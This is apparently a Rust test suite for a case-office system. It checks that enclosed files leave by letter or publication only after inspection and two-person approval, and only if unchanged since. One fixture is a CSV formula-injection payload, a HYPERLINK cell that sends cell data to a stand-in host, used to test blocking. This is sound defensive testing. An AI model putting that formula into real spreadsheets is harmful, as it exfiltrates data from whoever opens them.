//! The gate on every way out: a file that was not inspected, that holds more than is seen, or that is no longer the file
//! that was inspected goes out with nothing, whoever tries and however.

use casework::{
    Case, CaseId, Command, Disposition,
    case::{InspectionVerdict, LetterFiles, LetterKind, LetterState, StoredFile},
    ids::EnclosureId,
};
use office::{Carried, CopyAs, LetterPlan, PublishForm, SendOrder, Upload};
use post::Carrier;

use crate::{
    house::{self, HOUSE, approver, decide, given, officer, second_officer},
    place::{Place, on_both},
};

on_both!(
    what_may_not_leave_leaves_by_no_way,
    what_was_changed_after_it_was_inspected_stays,
    what_may_leave_leaves_by_each_way
);

const TABLE: &[u8] = b"site,lamps\r\nGuildhall,40\r\nDepot,12\r\n";
const FORMULA: &[u8] = b"site,lamps\r\nGuildhall,\"=HYPERLINK(\"\"http://collect.example/?d=\"\"&A1)\"\r\n";
const CUT: &[u8] = b"PK\x03\x04 and no more";

/// A case with one answer, which a file goes with as `prepared` leaves it.
struct Tried<'p> {
    place: &'p Place,
    case: CaseId,
}

impl<'p> Tried<'p> {
    async fn with(place: &'p Place, nth: u32, name: &str, bytes: &[u8]) -> Tried<'p> {
        let case = house::accepted(&place.office, nth).await;
        place.carry().await;
        let tried = Tried { place, case };
        let question = tried.now().await.questions[0].id;
        tried.does("decide", decide(question, given("It is in the file."), 0)).await.unwrap();
        let upload = Upload { name: name.to_owned(), bytes: bytes.to_vec() };
        let id = format!("add {case}");
        let added = place.office.add_enclosure(&officer(), case, &id, upload, Some(question)).await.unwrap();
        assert_eq!(added.questions[0].decision.as_ref().unwrap().enclosures, [EnclosureId(0)]);
        tried
    }

    async fn now(&self) -> Case {
        self.place.office.case(&officer(), self.case).await.unwrap()
    }

    async fn as_who(&self, who: &office::Who, id: &str, command: Command) -> office::Result<Case> {
        self.place.office.act(who, self.case, &format!("{id} {}", self.case), vec![command]).await
    }

    async fn does(&self, id: &str, command: Command) -> office::Result<Case> {
        self.as_who(&officer(), id, command).await
    }

    async fn let_leave(&self, who: &office::Who, id: &str) -> office::Result<Case> {
        let case = self.now().await;
        let inspection = case.shown_of(&case.enclosures[0]);
        let why = "Looked at, and agreed with the applicant.".to_owned();
        self.as_who(who, id, Command::LetLeave { enclosure: EnclosureId(0), inspection, why }).await
    }

    /// Sends as the page of the letter does; the id is that of the try.
    async fn send(&self, id: &str) -> office::Result<office::Sent> {
        let plan = LetterPlan::response(&self.now().await);
        let order = SendOrder { plan, to: None };
        self.place.office.send(&officer(), self.case, &format!("{id} {}", self.case), order).await
    }

    /// Issues by the bare command, with files and findings of the caller's choice: as a program over the office could.
    async fn issue(&self, id: &str, kind: LetterKind) -> office::Result<Case> {
        let case = self.now().await;
        let file = || StoredFile {
            sha256: case.original.sha256.clone(),
            name: "letter".to_owned(),
            media_type: "text/plain".to_owned(),
            bytes: 1,
        };
        let command = Command::IssueLetter {
            kind,
            to: "ivo@post.example".to_owned(),
            subject: "Lamps".to_owned(),
            message_id: "<bare@wexmoor.example>".to_owned(),
            files: Box::new(LetterFiles { content: file(), pdf: file(), text: file() }),
            answers: case.questions.iter().map(|q| q.id).collect(),
            to_follow: Vec::new(),
            supersedes: None,
            findings: Vec::new(),
            groups: Vec::new(),
            until: None,
            note: String::new(),
            particulars: Box::default(),
        };
        self.does(id, command).await
    }

    /// Publishes whatever letter answers, with the file, by an officer who says that everything was looked at.
    async fn publish(&self, id: &str) -> office::Result<uuid::Uuid> {
        let case = self.now().await;
        let letter = case.letters.iter().rev().find(|l| l.kind == LetterKind::Response).map(|l| l.id);
        let Some(letter) = letter else { return Err(office::Error::NotFound("letter")) };
        let (mut entry, _) = self.place.office.propose_entry(&officer(), self.case, letter).await?;
        entry.enclosures = case.enclosures.iter().map(|e| e.file.clone()).collect();
        let may_be_seen = Vec::new();
        let form = PublishForm { entry, applicant: true, third_parties: true, copyright: true, may_be_seen };
        self.place.office.publish(&officer(), self.case, &format!("{id} {}", self.case), form).await
    }

    /// Every way out is tried and none is open; nothing is on its way afterwards.
    async fn nothing_leaves(&self, origin: &str, words: &str) {
        let before = self.now().await;
        let page = self.place.office.letter_page(&officer(), self.case, None).await.unwrap();
        assert!(page.obstacles.iter().any(|o| o.contains(words)), "{origin}: {:?}", page.obstacles);
        let refused = self.send("page").await.unwrap_err();
        assert!(
            refused.to_string().contains(words) || refused.to_string().contains("breach"),
            "{origin}: {refused}"
        );
        for kind in [LetterKind::Response, LetterKind::Correction, LetterKind::ReviewOutcome] {
            let issued = self.issue(&format!("{kind:?}"), kind).await;
            assert!(issued.is_err(), "{origin}: issued as {kind:?}");
        }
        assert!(self.publish("publish").await.is_err(), "{origin}: published");
        assert_eq!(self.now().await, before, "{origin}: nothing was changed");
        assert_eq!(self.place.carry().await, 0, "{origin}: nothing is carried");
    }

    /// The files that left with mails of this case.
    fn left(&self) -> Vec<(String, Vec<u8>)> {
        let letters = self.place.mails().into_iter().filter(|m| m.to == "ivo@post.example");
        let files = letters.flat_map(|m| m.attachments);
        files.filter(|(name, _)| name.starts_with("table")).collect()
    }
}

async fn what_may_not_leave_leaves_by_no_way(place: &Place) {
    // Put on the case past the inspection: the file is there and nobody looked.
    let tried = Tried::with(place, 1, "other.csv", TABLE).await;
    let case = tried.now().await;
    let mut decision = case.questions[0].decision.clone().unwrap();
    decision.enclosures = Vec::new();
    let revision = case.questions[0].revision;
    tried.does("without", decide(case.questions[0].id, decision, revision)).await.unwrap();
    let bare = StoredFile { name: "table.csv".to_owned(), ..case.original.clone() };
    let question = Some(case.questions[0].id);
    tried
        .does("bare", Command::AddEnclosure { file: bare, made_from: None, dropped: Vec::new(), question })
        .await
        .unwrap();
    tried.nothing_leaves("not inspected", "was not inspected").await;
    let mut forged = case.enclosures[0].inspected.clone().unwrap();
    forged.sha256.clone_from(&case.original.sha256);
    for who in [officer(), approver(), second_officer()] {
        let note = Command::NoteInspection { enclosure: EnclosureId(1), inspected: Box::new(forged.clone()) };
        assert!(tried.as_who(&who, "forged", note).await.is_err(), "nobody but the program inspects");
    }
    tried.nothing_leaves("said to be inspected", "was not inspected").await;

    for (nth, (name, bytes, verdict, origin)) in [
        ("table.csv", FORMULA, InspectionVerdict::Unsafe, "a cell that runs"),
        ("table.xlsx", CUT, InspectionVerdict::CannotCheck, "a workbook that is cut off"),
        ("table.pdf", TABLE, InspectionVerdict::Unsafe, "a table that calls itself a PDF"),
    ]
    .into_iter()
    .enumerate()
    {
        let tried = Tried::with(place, 10 + nth as u32, name, bytes).await;
        let inspected = tried.now().await.enclosures[0].inspected.clone().unwrap();
        assert_eq!(inspected.verdict, verdict, "{origin}: {inspected:?}");
        assert_eq!(inspected.sha256, office::inspection::digest(bytes), "{origin}");
        tried.nothing_leaves(origin, "two people").await;
        tried.let_leave(&officer(), "first").await.unwrap();
        tried.nothing_leaves(&format!("{origin}, one person"), "second person").await;
        assert!(tried.let_leave(&officer(), "again").await.is_err(), "{origin}: the second is not the first");
        for who in [house::post_room(), office::Who::command_line(HOUSE)] {
            assert!(tried.let_leave(&who, "program").await.is_err(), "{origin}: a person says so");
        }
        tried.nothing_leaves(&format!("{origin}, one person twice"), "second person").await;
    }

    let tried = Tried::with(place, 20, "table.csv", b"site,contact\r\nDepot,Ada Penrose\r\n").await;
    let what = vec![("PERSON".to_owned(), "Ada Penrose".to_owned())];
    tried.does("out", Command::JudgePersonal { what, may_be_seen: false }).await.unwrap();
    tried.nothing_leaves("holds what must come out", "must come out").await;

    // Its words are clean; its name is not.
    let tried = Tried::with(place, 21, "table of ada_penrose.csv", TABLE).await;
    let what = vec![("PERSON".to_owned(), "Ada Penrose".to_owned())];
    tried.does("out", Command::JudgePersonal { what, may_be_seen: false }).await.unwrap();
    tried.nothing_leaves("a name that tells", "under another name").await;

    // Two people let it leave, and then it was the answer to a question that asks for far less.
    let rows = [FORMULA, "Depot,1\r\n".repeat(900).as_bytes()].concat();
    let tried = Tried::with(place, 22, "table.csv", &rows).await;
    tried.let_leave(&officer(), "first").await.unwrap();
    tried.let_leave(&approver(), "second").await.unwrap();
    let case = tried.now().await;
    assert!(case.may_leave(&case.enclosures[0]));
    let (question, text) = (case.questions[0].id, "The ten largest depots, by lamps.".to_owned());
    tried
        .does("reword", Command::RewordQuestion { question, label: None, heading: None, text })
        .await
        .unwrap();
    tried.nothing_leaves("far more rows than were asked for since", "two people").await;

    // A page that was left open names the file that was there; another that came after it is not meant.
    let tried = Tried::with(place, 23, "table.csv", TABLE).await;
    let (case, office) = (tried.now().await, &place.office);
    let (question, revision) = (case.questions[0].id, case.questions[0].revision);
    let stale = case.questions[0].decision.clone().unwrap();
    let why = "Another is meant.".to_owned();
    tried.does("off", Command::RemoveEnclosure { enclosure: EnclosureId(0), why }).await.unwrap();
    let upload = Upload { name: "table.csv".to_owned(), bytes: NAMED.to_vec() };
    let added = office.add_enclosure(&officer(), tried.case, "other 23", upload, None).await.unwrap();
    assert_ne!(added.enclosures[0].id, EnclosureId(0));
    assert!(tried.does("stale", decide(question, stale, revision)).await.is_err(), "not that file");
}

/// What happens to a file between its inspection and the mail.
#[derive(Clone, Copy, Debug)]
enum Change {
    Bytes,
    Inspection,
    MustComeOut,
}

impl Change {
    async fn to(self, tried: &Tried<'_>) {
        let enclosure = tried.now().await.enclosures[0].clone();
        match self {
            Change::Bytes => {
                // Other bytes under the same name, as somebody with the disk in hand could put there.
                let (case, sha256) = (tried.case.0, &enclosure.file.sha256);
                let mut written = 0;
                for entry in walk(tried.place.folder.path()) {
                    if entry.ends_with(format!("{}/{sha256}", case.simple())) {
                        std::fs::write(&entry, FORMULA).unwrap();
                        written += 1;
                    }
                }
                assert_eq!(written, 1, "the document is in its folder");
            }
            Change::Inspection => {
                let mut inspected = enclosure.inspected.unwrap();
                inspected.verdict = InspectionVerdict::CannotCheck;
                let inspected = Box::new(inspected);
                let note = Command::NoteInspection { enclosure: enclosure.id, inspected };
                tried.as_who(&house::post_room(), "other", note).await.unwrap();
            }
            Change::MustComeOut => {
                let what = vec![("PERSON".to_owned(), "Ms Ada Penrose".to_owned())];
                tried.does("out", Command::JudgePersonal { what, may_be_seen: false }).await.unwrap();
            }
        }
    }
}

fn walk(folder: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() { found.extend(walk(&path)) } else { found.push(path) }
    }
    found
}

const NAMED: &[u8] = b"site,contact\r\nDepot,Ada Penrose\r\nGuildhall,Ms Ada Penrose\r\n";

async fn what_was_changed_after_it_was_inspected_stays(place: &Place) {
    for (nth, change) in [Change::Bytes, Change::Inspection, Change::MustComeOut].into_iter().enumerate() {
        // Issued, and changed before it is carried.
        let tried = Tried::with(place, 30 + nth as u32, "table.csv", NAMED).await;
        let sent = tried.send("send").await.unwrap();
        // As after a restore: sending is held, and resumed.
        place.office.store.hold_sending("restored").await.unwrap();
        change.to(&tried).await;
        assert_eq!(place.carry().await, 0, "{change:?}: held");
        place.office.store.resume_sending().await.unwrap();
        let folder = Carrier::Folder(place.outbox());
        assert_eq!(place.office.carry_next(&folder).await.unwrap(), Carried::InDoubt, "{change:?}");
        assert_eq!(place.carry().await, 0, "{change:?}: not by itself either");
        let letter = tried.now().await.letter(sent.letter).cloned().unwrap();
        assert!(matches!(letter.state, LetterState::InDoubt { .. }), "{change:?}: {:?}", letter.state);
        // An officer says that it never left, and sends it once more.
        let never = "The file was changed.";
        let settle = format!("settle {}", tried.case);
        place.office.resolve_doubt(&officer(), tried.case, &settle, letter.id, false, never).await.unwrap();
        let again = format!("again {}", tried.case);
        let resent =
            place.office.resend(&officer(), tried.case, &again, letter.id, "ivo@post.example", never).await;
        if resent.is_ok() {
            assert_eq!(
                place.office.carry_next(&folder).await.unwrap(),
                Carried::InDoubt,
                "{change:?}: resent"
            );
        }
        assert!(tried.left().is_empty(), "{change:?}: {:?}", tried.left());

        // Sent as it was, and changed before it is published.
        let tried = Tried::with(place, 40 + nth as u32, "table.csv", TABLE).await;
        tried.send("send").await.unwrap();
        assert_eq!(place.carry().await, 1);
        if matches!(change, Change::MustComeOut) {
            continue;
        }
        change.to(&tried).await;
        if let Ok(entry) = tried.publish("publish").await {
            let sha256 = office::inspection::digest(TABLE);
            let file = place.office.published_file(HOUSE, entry, &sha256).await;
            assert!(file.is_err(), "{change:?}: the public gets other bytes");
        }
        std::fs::remove_dir_all(place.outbox()).unwrap();
    }
}

async fn what_may_leave_leaves_by_each_way(place: &Place) {
    let tried = Tried::with(place, 50, "table.csv", FORMULA).await;
    tried.let_leave(&officer(), "first").await.unwrap();
    tried.let_leave(&approver(), "second").await.unwrap();
    tried.send("send").await.unwrap();
    assert_eq!(place.carry().await, 1);
    assert_eq!(
        tried.left(),
        [("table.csv".to_owned(), FORMULA.to_vec())],
        "the very bytes that were inspected"
    );
    let entry = tried.publish("publish").await.unwrap();
    let sha256 = office::inspection::digest(FORMULA);
    assert_eq!(place.office.published_file(HOUSE, entry, &sha256).await.unwrap().2, FORMULA);
    let case = tried.now().await;
    assert_eq!(case.questions[0].decision.as_ref().unwrap().disposition, Disposition::Given);
    let timeline = place.office.timeline(&officer(), tried.case).await.unwrap();
    let let_leave: Vec<_> = timeline.iter().filter(|e| e.kind == "enclosure-let-leave").collect();
    assert_eq!(let_leave.len(), 2, "who let it leave stays on the timeline");
    assert!(let_leave.iter().all(|e| e.why.is_some()), "with the reason");

    // A clean copy takes the place of what may not leave, says what it leaves out, and is inspected itself.
    let tried = Tried::with(place, 52, "table.csv", FORMULA).await;
    let office = &place.office;
    let copied = office.clean_copy(&officer(), tried.case, "copy", EnclosureId(0), CopyAs::SameKind).await;
    let case = copied.unwrap();
    let [copy] = case.enclosures.as_slice() else { panic!("{:?}", case.enclosures) };
    let inspected = copy.inspection().expect("it is inspected itself");
    assert_eq!(inspected.verdict, InspectionVerdict::Clean, "{inspected:?}");
    assert!(!copy.dropped.is_empty(), "{copy:?}");
    let from = copy.made_from.as_ref().map(|f| f.sha256.as_str());
    assert_eq!(from, Some(office::inspection::digest(FORMULA).as_str()));
    assert_eq!(
        case.questions[0].decision.as_ref().unwrap().enclosures,
        [copy.id],
        "it goes with the same answer"
    );
    let again = office.clean_copy(&officer(), tried.case, "copy", copy.id, CopyAs::SameKind).await.unwrap();
    assert_eq!(again, case, "asked twice, made once");
    tried.send("send").await.unwrap();
    assert_eq!(place.carry().await, 1);

    // Publishing asks for everybody who is named in the file.
    let tried = Tried::with(place, 51, "table.csv", NAMED).await;
    tried.send("send").await.unwrap();
    assert_eq!(place.carry().await, 1);
    let refused = tried.publish("publish").await.unwrap_err();
    assert!(refused.to_string().contains("Ada Penrose"), "{refused}");
    let what: Vec<_> = tried.now().await.enclosures[0]
        .inspection()
        .unwrap()
        .found
        .personal
        .iter()
        .map(|p| (p.kind.clone(), p.text.clone()))
        .collect();
    tried.does("seen", Command::JudgePersonal { what, may_be_seen: true }).await.unwrap();
    tried.publish("publish").await.unwrap();
}
